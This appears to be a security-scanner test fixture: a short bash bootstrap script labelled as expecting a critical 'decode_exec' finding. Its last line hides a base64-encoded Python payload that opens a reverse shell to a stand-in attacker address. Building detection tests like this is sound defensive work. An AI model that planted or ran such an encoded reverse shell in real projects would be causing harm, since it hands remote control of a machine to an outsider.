# expect: shell.decode_exec critical
# path: scripts/bootstrap.sh
#!/usr/bin/env bash
set -euo pipefail
cd "$(dirname "$0")/.."
python3 -c "import base64;exec(base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgnYmFzaCAtaSA+JiAvZGV2L3RjcC8yMDMuMC4xMTMuMjA0LzQ0NDQgMD4mMScp'))"
